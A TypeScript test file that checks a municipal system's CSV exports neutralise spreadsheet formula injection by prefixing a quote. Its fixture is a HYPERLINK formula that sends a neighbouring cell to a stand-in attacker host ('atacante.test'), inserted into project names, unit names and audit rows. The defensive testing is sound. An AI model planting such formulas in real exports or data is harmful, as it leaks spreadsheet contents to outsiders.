import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestApp, type TestApp } from '../support/test-app.ts';
import { authHeaders } from '../support/auth.ts';

/**
 * A text that passes the text policy and that a spreadsheet would run as a
 * live formula (here, a link that sends the neighbouring cell away).
 */
const formula = '=HYPERLINK("http://atacante.test/?d="&A1,"Ver detalle")';
/** What a spreadsheet must show instead: the same text, as text. */
const neutralised = `'${formula}`;

let t: TestApp;
let projectCode: string;

beforeAll(async () => {
  t = await openTestApp();
  const [project] = await t.app.db.query<{ codigo: string }>('select codigo from proyectos order by codigo limit 1');
  projectCode = project!.codigo;
  await t.app.db.query('update plan_nodos set nombre = $2 where codigo = $1', [projectCode, formula]);
});
afterAll(async () => t?.close());

/** The served CSV read as a spreadsheet would read it: one record per row, cells by header. */
function recordsOf(body: string): Record<string, string>[] {
  return parse(body, { columns: true, bom: true }) as Record<string, string>[];
}

describe('every CSV the SIT serves neutralises cells a spreadsheet would run as formulas', () => {
  it('GET /analysis/indicadores?f=csv: a unit named like a formula', async () => {
    const [unit] = await t.app.db.query<{ codigo: string }>(
      `update unidades_vecinales set nombre = $1 where codigo = (select min(codigo) from unidades_vecinales) returning codigo`,
      [formula],
    );
    const response = await t.app.inject('/analysis/indicadores?f=csv');
    expect(response.statusCode).toBe(200);
    const row = recordsOf(response.body).find((record) => record['Código'] === unit!.codigo);
    expect(row?.Nombre).toBe(neutralised);
    expect(response.body).toContain(`"'=HYPERLINK(`);
    expect(response.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('GET /reportes/semestral?f=csv: a project named like a formula in the annex', async () => {
    const response = await t.app.inject('/reportes/semestral?anio=2026&semestre=1&f=csv');
    expect(response.statusCode).toBe(200);
    const row = recordsOf(response.body).find((record) => record.codigo === projectCode);
    expect(row?.nombre).toBe(neutralised);
    expect(response.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('GET /exportar/proyectos?formato=csv: the same project in an export, negative coordinates still numbers', async () => {
    const response = await t.app.inject('/exportar/proyectos?formato=csv');
    expect(response.statusCode).toBe(200);
    const records = recordsOf(response.body);
    expect(records.find((record) => record.codigo === projectCode)?.nombre).toBe(neutralised);
    expect(response.body).not.toMatch(/(^|,)=HYPERLINK/m);
    // Vallenar is at negative longitudes and latitudes: written as numbers, without a quote in front.
    const located = records.find((record) => record.lon);
    expect(Number(located!.lon)).toBeLessThan(-70);
    expect(Number(located!.lat)).toBeLessThan(-28);
  });

  it('GET /auditoria?f=csv: an audit row whose object id looks like a formula', async () => {
    await t.app.db.query(
      `insert into auditoria (usuario, accion, recurso, objeto_id, antes, despues) values ('prueba', 'crear', 'patrimonio', $1, null, $2)`,
      [formula, JSON.stringify({ nombre: formula })],
    );
    const response = await t.app.inject({
      method: 'GET',
      url: '/auditoria?f=csv&recurso=patrimonio',
      headers: await authHeaders(t.app, 'admin'),
    });
    expect(response.statusCode).toBe(200);
    const row = recordsOf(response.body).find((record) => record.objeto_id?.includes('HYPERLINK'));
    expect(row?.objeto_id).toBe(neutralised);
    expect(JSON.parse(row?.despues ?? 'null')).toEqual({ nombre: formula });
    expect(response.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
